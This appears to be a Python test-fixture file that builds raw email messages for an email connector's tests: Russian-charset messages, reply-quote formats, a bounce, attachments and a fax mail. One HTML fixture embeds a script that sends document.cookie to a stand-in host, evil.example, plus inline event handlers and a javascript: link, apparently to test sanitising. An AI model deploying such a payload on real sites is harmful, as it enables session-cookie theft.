"""Real-world-like raw messages for the email connector tests, built byte by byte (CRLF line ends)."""

from __future__ import annotations

import base64
import quopri
from email.header import Header
from urllib.parse import quote


def crlf(text: str) -> bytes:
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode("ascii")


def b64(data: bytes) -> str:
    return base64.encodebytes(data).decode("ascii")


def koi8_alternative() -> bytes:
    """Thunderbird-style multipart/alternative in KOI8-R, plain 8bit and HTML quoted-printable."""
    text = "Здравствуйте!\nНе пришёл заказ 123.\n".encode("koi8-r")
    html = "<html><body><p>Здравствуйте!</p><p>Не пришёл заказ 123.</p></body></html>".encode("koi8-r")
    head = crlf(
        "Return-Path: <ivan@example.ru>\n"
        "From: =?KOI8-R?B?6dfBziDwxdTSz9c=?= <ivan@example.ru>\n"
        "To: Support <support@desk.example>\n"
        "Subject: =?KOI8-R?Q?=FA=C1=CB=C1=DA?=\n"
        "Date: Mon, 04 Mar 2024 10:15:00 +0300\n"
        "Message-ID: <k1@example.ru>\n"
        "MIME-Version: 1.0\n"
        'Content-Type: multipart/alternative; boundary="b1"\n'
        "\n"
        "--b1\n"
        "Content-Type: text/plain; charset=KOI8-R\n"
        "Content-Transfer-Encoding: 8bit\n"
        "\n"
    )
    middle = crlf("\n--b1\nContent-Type: text/html; charset=koi8-r\nContent-Transfer-Encoding: quoted-printable\n\n")
    return head + text.replace(b"\n", b"\r\n") + middle + quopri.encodestring(html) + crlf("\n--b1--\n")


def cp1251_base64() -> bytes:
    """Outlook-style windows-1251, base64 body, RFC 2047 subject in windows-1251 split over two words."""
    body = "Добрый день!\r\nПрошу выставить счёт № 45 на ООО «Ромашка».\r\n".encode("cp1251")
    words = " ".join(
        f"=?windows-1251?B?{base64.b64encode(p.encode('cp1251')).decode()}?=" for p in ("Счёт на", " оплату")
    )
    return crlf(
        "From: =?windows-1251?Q?=CC=E0=F0=E8=FF_=D1=E8=E4=EE=F0=EE=E2=E0?= <maria@romashka.example>\n"
        "To: support@desk.example, =?utf-8?B?0J7RgtC00LXQuyDQv9GA0L7QtNCw0LY=?= <sales@desk.example>\n"
        "Cc: boss@romashka.example\n"
        f"Subject: {words} (invoice)\n"
        "Date: Tue, 5 Mar 2024 09:00:00 +0000\n"
        "Message-ID: <CAF1251@mail.romashka.example>\n"
        "MIME-Version: 1.0\n"
        'Content-Type: text/plain; charset="windows-1251"\n'
        "Content-Transfer-Encoding: base64\n"
        "\n"
    ) + crlf(b64(body))


def html_only_with_script() -> bytes:
    html = (
        "<html><head><style>p{color:red}</style><script>alert('head')</script></head><body>"
        '<p onclick="steal()">Hello <b>team</b>,</p>'
        "<script>document.location='http://evil.example/'+document.cookie</script>"
        '<p>See <a href="https://shop.example/order/7" onmouseover="x()">order 7</a> and '
        '<a href="javascript:alert(1)">this</a>.</p>'
        '<img src="https://tracker.example/pixel.gif?u=42" width="1" height="1">'
        '<img src="cid:logo@shop.example" alt="logo">'
        "<ul><li>first</li><li>second</li></ul>"
        "</body></html>"
    )
    return crlf(
        "From: Shop Customer <client@shop.example>\n"
        "To: support@desk.example\n"
        "Subject: HTML only\n"
        "Message-ID: <html1@shop.example>\n"
        "MIME-Version: 1.0\n"
        "Content-Type: text/html; charset=utf-8\n"
        "Content-Transfer-Encoding: base64\n"
        "\n"
    ) + crlf(b64(html.encode("utf-8")))


def plain(body: str, *, headers: str = "", charset: str = "utf-8", sender: str = "Ann <ann@example.com>") -> bytes:
    """A single-part text/plain message in UTF-8 (base64, so any text survives)."""
    return crlf(
        f"From: {sender}\n"
        "To: support@desk.example\n"
        "Subject: Re: Order 7\n"
        "Message-ID: <reply-1@example.com>\n"
        f"{headers}"
        "MIME-Version: 1.0\n"
        f"Content-Type: text/plain; charset={charset}\n"
        "Content-Transfer-Encoding: base64\n"
        "\n"
    ) + crlf(b64(body.encode("utf-8")))


GMAIL_REPLY = (
    "Thanks, the parcel arrived.\n"
    "\n"
    "On Mon, 4 Mar 2024 at 10:15, Switchboard Support <\n"
    "support@desk.example> wrote:\n"
    "\n"
    "> Hello Ann,\n"
    "> your parcel is on its way.\n"
    ">\n"
    "> > Where is my parcel?\n"
)
OUTLOOK_REPLY = (
    "Please cancel the order.\n"
    "\n"
    "Best regards,\n"
    "Ann\n"
    "\n"
    "________________________________\n"
    "From: Switchboard Support <support@desk.example>\n"
    "Sent: Monday, March 4, 2024 10:15 AM\n"
    "To: Ann <ann@example.com>\n"
    "Subject: Order 7\n"
    "\n"
    "Hello Ann, your order 7 is confirmed.\n"
)
OUTLOOK_ORIGINAL_MESSAGE = (
    "Yes, that works.\n"
    "\n"
    "-----Original Message-----\n"
    "From: Support [mailto:support@desk.example]\n"
    "Sent: Monday, March 04, 2024 10:15 AM\n"
    "Subject: Order 7\n"
    "\n"
    "Can we call you tomorrow?\n"
)
YANDEX_REPLY = (
    "Спасибо, всё получил.\n"
    "\n"
    '04.03.2024, 10:15, "Служба поддержки" <support@desk.example>:\n'
    "> Здравствуйте, Иван!\n"
    "> Ваш заказ отправлен.\n"
)
RUSSIAN_WROTE_REPLY = (
    "Жду звонка.\n\nПн, 4 мар 2024 в 10:15 Служба поддержки написал(а):\n> Когда вам удобно поговорить?\n"
)
MAILRU_REPLY = (
    "Да, адрес верный.\n"
    "\n"
    "Понедельник, 4 марта 2024, 10:15 +03:00 от Служба поддержки <support@desk.example>:\n"
    "> Проверьте, пожалуйста, адрес доставки.\n"
)
INTERLEAVED_REPLY = (
    "On Mon, 4 Mar 2024, Support <support@desk.example> wrote:\n"
    "> Which size do you need?\n"
    "\n"
    "Size M.\n"
    "\n"
    "> And which colour?\n"
    "\n"
    "Blue.\n"
)


def dsn(*, original: str = "rfc822", status: str = "5.1.1", action: str = "failed") -> bytes:
    """A Postfix-style RFC 3464 bounce of our message <out-1@desk.example>."""
    if original == "rfc822":
        returned = (
            "Content-Description: Undelivered Message\n"
            "Content-Type: message/rfc822\n"
            "\n"
            "From: Support <support@desk.example>\n"
            "To: nobody@customer.example\n"
            "Subject: Re: Order 7\n"
            "Message-ID: <out-1@desk.example>\n"
            "\n"
            "Hello!\n"
        )
    elif original == "headers":
        returned = (
            "Content-Type: text/rfc822-headers\n"
            "\n"
            "From: Support <support@desk.example>\n"
            "To: nobody@customer.example\n"
            "Message-ID: <out-1@desk.example>\n"
        )
    else:
        returned = "Content-Type: text/plain\n\n(the original message is not included)\n"
    return crlf(
        "Return-Path: <>\n"
        "From: MAILER-DAEMON@mx.desk.example (Mail Delivery System)\n"
        "To: support@desk.example\n"
        "Subject: Undelivered Mail Returned to Sender\n"
        "Auto-Submitted: auto-replied\n"
        "Message-ID: <bounce-1@mx.desk.example>\n"
        "MIME-Version: 1.0\n"
        'Content-Type: multipart/report; report-type=delivery-status; boundary="rep"\n'
        "\n"
        "--rep\n"
        "Content-Type: text/plain; charset=us-ascii\n"
        "\n"
        "I'm sorry to have to inform you that your message could not be delivered.\n"
        "\n"
        "--rep\n"
        "Content-Type: message/delivery-status\n"
        "\n"
        "Reporting-MTA: dns; mx.desk.example\n"
        "Original-Envelope-Id: env-77\n"
        "Arrival-Date: Mon,  4 Mar 2024 10:15:00 +0000 (UTC)\n"
        "\n"
        "Final-Recipient: rfc822; nobody@customer.example\n"
        "Original-Recipient: rfc822;nobody@customer.example\n"
        f"Action: {action}\n"
        f"Status: {status}\n"
        "Remote-MTA: dns; mx.customer.example\n"
        "Diagnostic-Code: smtp; 550 5.1.1 <nobody@customer.example>: Recipient\n"
        "    address rejected: User unknown\n"
        "\n"
        "--rep\n"
        f"{returned}"
        "\n"
        "--rep--\n"
    )


def with_attachments(parts: list[tuple[str, str, bytes]], *, sender: str = "Ann <ann@example.com>") -> bytes:
    """multipart/mixed: a short text body, then (filename, content type, bytes) attachments in base64."""
    out = (
        f"From: {sender}\n"
        "To: support@desk.example\n"
        "Subject: Files\n"
        "Message-ID: <files-1@example.com>\n"
        "MIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="mix"\n'
        "\n"
        "--mix\n"
        "Content-Type: text/plain; charset=utf-8\n"
        "\n"
        "Files attached.\n"
    )
    for name, content_type, data in parts:
        # RFC 2231 for non-ASCII names, as Thunderbird and Gmail write them
        param = f'filename="{name}"' if name.isascii() else f"filename*=utf-8''{quote(name)}"
        out += (
            "--mix\n"
            f"Content-Type: {content_type}\n"
            f"Content-Disposition: attachment; {param}\n"
            "Content-Transfer-Encoding: base64\n"
            "\n"
            f"{b64(data)}"
        )
    return crlf(out + "--mix--\n")


TIFF_BYTES = b"II*\x00\x08\x00\x00\x00" + b"\x00" * 120  # a little-endian TIFF header; enough to be recognised
PDF_BYTES = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"


def fax_mail(
    *,
    sender: str = "FAX=+74951234567@fax.example",
    subject: str = "Fax from +74951234567",
    headers: str = "",
    attachment: tuple[str, str, bytes] = ("fax.tif", "image/tiff", TIFF_BYTES),
) -> bytes:
    """A T.37 gateway mail: a short text part and the received fax as a TIFF."""
    name, content_type, data = attachment
    subject = subject if subject.isascii() else Header(subject, "utf-8").encode()
    return crlf(
        f"From: {sender}\n"
        "To: fax@desk.example\n"
        f"Subject: {subject}\n"
        "Message-ID: <fax-1@fax.example>\n"
        f"{headers}"
        "MIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="fx"\n'
        "\n"
        "--fx\n"
        "Content-Type: text/plain; charset=us-ascii\n"
        "\n"
        "Received fax, 1 page.\n"
        "--fx\n"
        f"Content-Type: {content_type}; application=faxbw\n"
        f'Content-Disposition: attachment; filename="{name}"\n'
        "Content-Transfer-Encoding: base64\n"
        "\n"
        f"{b64(data)}"
        "--fx--\n"
    )
